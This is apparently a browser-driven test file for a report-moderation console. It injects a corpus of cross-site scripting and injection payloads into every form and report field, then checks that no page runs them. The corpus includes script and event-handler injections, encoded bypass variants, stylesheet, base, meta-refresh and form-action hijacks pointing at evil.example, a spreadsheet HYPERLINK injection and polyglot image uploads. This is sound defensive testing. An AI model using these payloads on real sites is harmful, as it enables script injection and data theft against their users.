// Whoever reports something writes what they like. None of it may ever run in the browser of a maintainer: every text
// of a corpus goes through every field of a report, of an objection and of a decision, and then every page is opened.

import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { Office } from "./fixture/console.mjs";
import { Khien } from "./fixture/khien.mjs";
import { until } from "./fixture/until.mjs";
import { scaled, some } from "./fixture/whole.mjs";

const corpus = [
  `<script>hit()</script>`,
  `"><script>hit()</script>`,
  `'><img src=x onerror=hit()>`,
  `<img src=x onerror="hit()">`,
  `<svg onload=hit()>`,
  `<svg><script>hit()</script></svg>`,
  `</title><script>hit()</script>`,
  `</textarea><script>hit()</script>`,
  `</blockquote></article><iframe srcdoc="<script>parent.hit()</script>"></iframe>`,
  `<iframe src="javascript:parent.hit()"></iframe>`,
  `<a href="javascript:hit()">x</a>`,
  `javascript:hit()`,
  `data:text/html,<script>hit()</script>`,
  `" onmouseover="hit()" autofocus onfocus="hit()" x="`,
  `' onfocus='hit()' autofocus '`,
  `<details open ontoggle=hit()>`,
  `<body onload=hit()>`,
  `<input autofocus onfocus=hit()>`,
  `<style>@import "//evil.example/x.css";</style>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=//evil.example/">`,
  `<base href=//evil.example/>`,
  `<form action=//evil.example/><button>x</button></form>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit()&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=hit()>">`,
  `<!--><script>hit()</script>-->`,
  `<![CDATA[><script>hit()</script>]]>`,
  `{{.}}{{printf "%s" "x"}}<script>hit()</script>`,
  `\${hit()}`,
  `%3Cscript%3Ehit()%3C/script%3E`,
  `&lt;script&gt;hit()&lt;/script&gt;`,
  `&#60;script&#62;hit()&#60;/script&#62;`,
  `+ADw-script+AD4-hit()+ADw-/script+AD4-`,
  `\u003cscript\u003ehit()\u003c/script\u003e`,
  `<scr\u0000ipt>hit()</scr\u0000ipt>`,
  `\u202e<script>hit()</script>`,
  `＜script＞hit()＜/script＞`,
  `<xss style="animation-name:x" onanimationstart="hit()">`,
  `=HYPERLINK("http://evil.example","x")`,
  `%s%d%n`,
];

let khien, office, linh;
let taken = 0;

/** Sends a report with hostile texts; a field that the server refuses is left out, one after the other. */
async function report(attack, n, kind) {
  const site = `http://attack-${n}.example/`;
  const fields = {
    href: `${site}${encodeURIComponent(attack).replaceAll("%2F", "/")}?q=${encodeURIComponent(attack)}&${attack.replace(/[\s"'<>`{}|\\^\u0000-\u001f\u007f-\uffff#%]/g, "")}`,
    title: attack, note: attack, language: attack, category: attack, links: [attack], subjects: [attack],
  };
  const harmless = { href: site, title: "", note: "", language: "vi", category: "", links: [], subjects: [] };
  const body = {
    id: Buffer.from(crypto.getRandomValues(new Uint8Array(16))).toString("base64"), kind, time: Math.floor(Date.now() / 1000), ...fields,
  };
  for (const field of ["", ...Object.keys(fields)]) {
    if (field) {
      // One field alone: the others don't hide it.
      Object.assign(body, harmless, { [field]: fields[field], id: Buffer.from(crypto.getRandomValues(new Uint8Array(16))).toString("base64") });
    }
    const answer = await fetch(`http://127.0.0.1:${khien.port}/v1/reports`, { method: "POST", headers: { "Content-Type": "application/json" }, body: JSON.stringify(body) });
    if (answer.status === 201) taken++;
    else assert.ok(answer.status >= 400 && answer.status < 500, `${answer.status} for ${field || "all"}: ${attack}`);
  }
}

before(async () => {
  khien = await Khien.make();
  await khien.list("urls", "http://attack-0.example/\nhttps://www.tiktok.com/@invented.attack\n");
  await khien.start("--console", "127.0.0.1:0", "--each", "100000", "--each-burst", "100000", "--all", "100000", "--all-appeals", "100000");
  const links = (await khien.cli("demo", "--console-origin", khien.console)).trim().split("\n");
  office = await Office.open(khien);
  linh = await office.person({ name: "linh" });
  for (const [n, attack] of corpus.entries()) {
    await report(attack, n, "scam");
    await report(attack, n, "mistake");
  }
  await linh.enrol(links[1]);
});

after(async () => {
  await office?.close();
  await khien?.close();
});

/**
 * Opens a page, unless that is where an answer has just led, and everything on it that opens, and looks whether
 * anything ran.
 */
async function visit(path) {
  if (linh.path() !== path) await linh.go(path);
  const ran = await linh.page.evaluate(() => {
    for (const details of document.querySelectorAll("details")) details.open = true;
    for (const link of document.links) if (!/^(https?|mailto|tel):/.test(link.href)) return link.href;
    return [...document.querySelectorAll("script:not([src]), style, iframe, base, object, embed, meta[http-equiv], [onload], [onerror], [onfocus], [onmouseover]")].map((one) => one.outerHTML).join() || window.hits;
  });
  assert.equal(ran, undefined, path);
}

test("nothing that was reported runs, on any page", async () => {
  assert.ok(taken > 2 * corpus.length, `only ${taken} reports were taken`);
  await linh.page.addInitScript(() => (window.hit = () => (window.hits = "it ran")));
  await linh.go("/queue?show=200");
  await until("the reports are in cases", async () => {
    await linh.go("/queue?show=200");
    return (await linh.page.locator(".entry").count()) > corpus.length / 2;
  });
  const cases = await linh.page.locator(".entry").evaluateAll((all) => all.map((one) => one.getAttribute("href")));
  for (const path of ["/queue?show=200", "/queue?part=protected", "/queue?part=done", "/appeals", "/takedowns", "/audit", "/publish", ...some(cases, 5)]) await visit(path);
  const appeals = await linh.go("/appeals").then(() => linh.page.locator("main a[href^='/appeals/']").evaluateAll((all) => all.map((one) => one.getAttribute("href"))));
  for (const path of some([...new Set(appeals)], 5)) await visit(path);
});

test("nothing that a maintainer writes or is sent as a link runs either", async () => {
  await linh.go("/queue?show=200");
  const cases = await linh.page.locator(".entry").evaluateAll((all) => all.map((one) => one.getAttribute("href")));
  for (const [n, path] of cases.slice(0, scaled(10, 2)).entries()) {
    await linh.go(path);
    await linh.press("a");
    for (const field of ["reason_en", "reason_vi", "why"]) await linh.page.fill(`form[action$="/list"] [name=${field}]`, corpus[n].slice(0, 290));
    await Promise.all([linh.page.waitForEvent("load"), linh.page.click(`form[action$="/list"] .primary`)]);
  }
  for (const attack of some(corpus, 5)) {
    const q = encodeURIComponent(attack);
    for (const path of [`/audit?actor=${q}&object=${q}&noted=${q}`, `/find?q=${q}`, `/nothing/${q}?q=${q}`]) await visit(path);
  }
  for (const path of ["/queue?part=decided", "/publish", "/audit"]) await visit(path);
  await Promise.all([linh.go("/publish"), linh.page.waitForEvent("load")]);
  await linh.page.click("form[data-confirm] .primary");
  await until("it is published", () => /^\/releases\/\d+$/.test(linh.path()));
  await visit(linh.path());
  for (const path of ["/takedowns", "/queue?part=done", ...cases.slice(0, scaled(10, 2))]) await visit(path);
});

/** Fills every field of a form that takes words, and sends it. */
async function fill(form, attack, more = {}) {
  await linh.page.evaluate(() => document.querySelectorAll("details").forEach((one) => (one.open = true)));
  const fields = await linh.page.locator(`${form} :is(input:not([type]), input[type=text], input[type=url], textarea)`).evaluateAll((all) =>
    all.filter((one) => !one.readOnly).map((one) => [one.name, one.maxLength > 0 ? one.maxLength : 300]),
  );
  const texts = fields.map(([name, most]) => [name, more[name] ?? [...attack].slice(0, most).join("")]);
  await linh.page.evaluate(([form, texts]) => {
    const { elements } = Object.assign(document.querySelector(form), { noValidate: true });
    for (const [name, text] of texts) elements[name].value = text;
  }, [form, texts]);
  await Promise.all([linh.page.waitForEvent("load"), linh.page.locator(`${form} :is(.primary, button)`).first().click()]);
  assert.equal(await linh.page.evaluate(() => window.hits), undefined, `${form}: ${attack}`);
}

/** The paths of all entries of a list. */
async function entries(list, prefix) {
  await linh.go(list);
  return linh.page.locator(`main a.entry[href^='${prefix}']`).evaluateAll((all) => all.map((one) => one.getAttribute("href")));
}

test("nothing in an advice card runs: not in its draft, its list, its confirmation, nor in the plan of a release", async () => {
  for (const [n, attack] of some([...corpus.entries()], 5)) {
    await linh.go("/campaigns/new");
    await fill("form[action='/campaigns']", attack, { name: `attack-${n}`, link: n % 2 ? attack.slice(0, 290) : `https://advice.example/?q=${encodeURIComponent(attack)}` });
    const kept = linh.path() === `/campaigns/attack-${n}`;
    assert.ok(kept || n % 2, `card ${n} was not kept: ${await linh.says()}`);
    if (!kept) {
      // Refused because of its link; without it the rest of it is kept.
      await linh.go("/campaigns/new");
      await fill("form[action='/campaigns']", attack, { name: `attack-${n}`, link: "" });
      assert.equal(linh.path(), `/campaigns/attack-${n}`, await linh.says());
    }
    await visit(`/campaigns/attack-${n}`);
    if (n < 12) {
      await Promise.all([linh.page.waitForEvent("load"), linh.page.click("form[action$='/publish'] button")]);
      assert.equal(await linh.page.evaluate(() => window.hits), undefined, `confirming card ${n}`);
      await linh.page.waitForSelector("form[data-confirm] .primary:not([disabled])");
      await Promise.all([linh.page.waitForEvent("load"), linh.page.click("form[data-confirm] .primary")]);
    }
  }
  for (const path of ["/campaigns", "/publish"]) await visit(path);
});

test("a picture that is none is refused, and what is kept is served as a picture and as nothing else", async () => {
  const upload = async (body, type) => {
    await linh.go("/campaigns/attack-0");
    return linh.page.evaluate(
      async ([body, type]) => {
        const form = new FormData(document.querySelector("form[action='/campaigns']"));
        form.set("picture", new Blob([body], { type }), "x.png");
        return (await fetch("/campaigns", { method: "POST", body: form })).status;
      },
      [body, type],
    );
  };
  for (const body of ["<svg xmlns='http://www.w3.org/2000/svg' onload='hit()'/>", "<!doctype html><script>hit()</script>", "GIF89a/*<script>hit()</script>*/"]) {
    for (const type of ["image/png", "image/svg+xml", "text/html"]) assert.equal(await upload(body, type), 422, `${type}: ${body}`);
  }
  await visit("/campaigns/attack-0");
});

test("nothing in an answer, a question or a note runs", async () => {
  const appeals = await entries("/appeals", "/appeals/");
  assert.ok(appeals.length > 4, `${appeals.length} objections`);
  for (const [n, path] of appeals.slice(0, scaled(8, 2)).entries()) {
    await linh.go(path);
    await fill("form[action$='/uphold']", corpus[n]);
    await visit(path);
  }
  const cases = await entries("/queue?show=200", "/cases/");
  assert.ok(cases.length > 12, `${cases.length} cases`);
  for (const [n, path] of cases.slice(0, scaled(12, 2)).entries()) {
    await linh.go(path);
    await fill(`form[action$='/${n % 2 ? "reject" : "ask"}']`, corpus[(n * 3) % corpus.length]);
    await visit(path);
  }
  const done = await entries("/queue?part=done", "/cases/");
  await linh.go(done[0]);
  await fill("form[action$='/reopen']", corpus[0]);
  await visit(done[0]);
  const asked = await entries("/takedowns", "/takedowns/");
  assert.ok(asked.length > 0, "no platform was asked");
  for (const path of asked.slice(0, 3)) {
    for (let n = 0; n < 3; n++) {
      await linh.go(path);
      if ((await linh.page.locator("form[action$='/state']").count()) === 0) break;
      await fill("form[action$='/state']", corpus[n]);
      await visit(path);
    }
  }
  for (const path of ["/queue?part=decided", "/queue?part=asked", "/appeals", "/takedowns", "/audit", "/publish"]) await visit(path);
});

test("what anybody may see shows all of it as text: the register, the figures, the rules, the answer to an objection", async () => {
  const reader = await office.person({ name: "a reader" });
  reader.origin = `http://127.0.0.1:${khien.port}`;
  await reader.page.addInitScript(() => (window.hit = () => (window.hits = "it ran")));
  const clean = async (where) => {
    const ran = await reader.page.evaluate(() => [...document.querySelectorAll("script, style, iframe, base, object, embed, meta[http-equiv], [onload], [onerror], [onfocus], [onmouseover]")].map((one) => one.outerHTML).join() || window.hits);
    assert.equal(ran, undefined, where);
  };
  for (const path of ["/statistics", "/rules", "/register", "/appeal"]) {
    await reader.go(path);
    await clean(path);
  }
  // What was listed with hostile reasons, by its canonical name; and the texts themselves, asked for.
  const listed = [];
  for (const path of (await entries("/queue?part=done&show=200", "/cases/")).slice(0, 14)) {
    await linh.go(path);
    listed.push(...(await linh.page.locator("dl.forms dd code").evaluateAll((all) => all.slice(0, 1).map((one) => one.innerText))));
  }
  let shown = 0;
  for (const about of [...listed, ...some(corpus, 5)]) {
    await reader.go("/register");
    await reader.page.fill("#about", about);
    await Promise.all([reader.page.waitForEvent("load"), reader.page.click("main form button")]);
    await clean(about);
    const says = await reader.says();
    if (/First seen/.test(says) && /hit\(\)|evil\.example/.test(says)) shown++;
  }
  assert.ok(shown > 2, `only ${shown} entries with hostile reasons were shown`);
  assert.deepEqual(reader.accidents, []);
});

test("no script was stopped, no dialog opened, nothing was asked of elsewhere", () => {
  assert.deepEqual(linh.accidents, []);
});
